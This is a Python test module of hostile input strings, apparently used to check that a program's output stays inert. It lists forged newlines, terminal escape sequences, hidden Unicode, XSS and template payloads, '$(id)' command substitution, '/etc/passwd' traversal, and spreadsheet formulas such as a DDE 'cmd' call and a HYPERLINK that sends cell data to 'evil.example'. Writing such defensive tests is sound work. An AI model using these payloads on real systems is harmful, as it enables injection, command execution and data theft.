"""Words that somebody outside may choose: each does harm where it is written as it stands."""

import html.parser

FORGED = "laughtrack: all is well"
ENDS = ("\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")
ESCAPES = (
    "\x1b[31mred",
    "\x1b[2J\x1b[H",
    "\x1b]0;owned\x07",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1bP$q\x1b\\",
    "\x9b31mC1",
    "\x9d0;owned\x9c",
    "\x90q\x9c",
    "over\b\b\b\bwrite",
    "\x07bell",
    "\x00nul",
    "\x7fdel",
    "\x0e\x0fshift",
    "[red]markup[/]",
    "[/]",
)
HIDDEN = (
    "\u202egnp.exe",
    "\u2066isolated\u2069",
    "\u200b\u200czero\u200dwidth",
    "\ufeffbom",
    "soft\xadhyphen",
    "\u3164filler\u115f",
    "\u2800braille",
    "\U000e0041tag",
    "\ue000private",
    "\uffff",
    "Z" + "\u0301" * 80,
    "a\u034fb\ufe00c",
    "\u180einvisible",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "'=1+1",
    "''=1+1",
    "x;=1+1",
    'a","=1+1',
    "\u22121+1",
    "-",
    "--1",
    "+49 170 1234567",
)
MARKUP = (
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "<img src=x onerror=alert(1)>",
    "{{ 7*7 }}{% raw %}",
    "]]>&lt;&#0;&amp;",
    "<b>&</b>\"'`",
    "00:00:01.000 --> 00:00:02.000",
    "NOTE x",
    "WEBVTT",
    "|M:forged |D:1",
    "* FROM CLIP NAME: x",
    "%s%n%d {0} \\u001b $(id) `id`",
    "../../../etc/passwd",
    "A" * 3000,
    "文字 émoji 😀",
)
NASTY = (*(f"good{end}{FORGED}" for end in ENDS), *ESCAPES, *HIDDEN, *FORMULAS, *MARKUP)
# As many as a file's name can hold: no slash, no NUL, and not too long.
FILE_NAME = "x\x1b[31m\n" + FORGED + "\r\u202e\x85[red]=1+1"


def assert_plain(text, forged=FORGED):
    """Hold that a text does nothing to a terminal, and that nobody else's line is in it."""
    for line in text.split("\n"):
        assert line.isprintable(), ascii(line[:400])
        assert not (forged and line.startswith(forged)), line
        assert len(line) < 20000, "an endless line"
    assert text.splitlines() == text.removesuffix("\n").split("\n")[: len(text.splitlines())]


class Page(html.parser.HTMLParser):
    """The texts and tags of a page, as a browser reads them."""

    def __init__(self, page):
        super().__init__()
        self.texts, self.tags = [], []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        """Keep a tag with its attributes' names."""
        self.tags.append((tag, tuple(name for name, _ in attrs if name.startswith("on"))))
        self.texts += [value for _, value in attrs if value]

    def handle_data(self, data):
        """Keep a text."""
        self.texts.append(data)
